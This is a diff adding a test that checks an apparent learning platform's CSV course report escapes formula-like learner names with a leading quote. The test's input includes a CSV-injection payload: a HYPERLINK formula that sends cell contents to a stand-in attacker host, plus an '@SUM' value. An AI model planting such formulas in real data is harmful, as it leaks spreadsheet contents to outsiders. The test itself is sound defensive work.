@@ -174,6 +174,25 @@ def test_the_report_lists_learners_filters_and_exports_csv(
     assert rows[0]["status"] == "in progress"
 
 
+def test_the_csv_report_keeps_formula_like_names_as_text(
+    courses: dict[str, int], make_learner
+) -> None:  # type: ignore[no-untyped-def]
+    course = courses["course"]
+    mallory: Learner = make_learner("mallory@example.org")
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    saved = mallory.post(
+        "/account/profile", name=hostile, language="en", country="KE", organisation="@SUM(1+1)"
+    )
+    assert saved.status_code == 200
+    mallory.enrol(course)
+    manager: Learner = make_learner("boss@example.org", role="manager")
+    exported = manager.client.get(f"/manage/courses/{course}/report?format=csv")
+    [row] = csv.DictReader(io.StringIO(exported.get_data(as_text=True)))
+    assert row["name"] == "'" + hostile
+    assert row["organisation"] == "'@SUM(1+1)"
+    assert row["email"] == "mallory@example.org"
+
+
 def test_a_new_package_version_keeps_learners_records(
     lms: Flask,
     courses: dict[str, int],
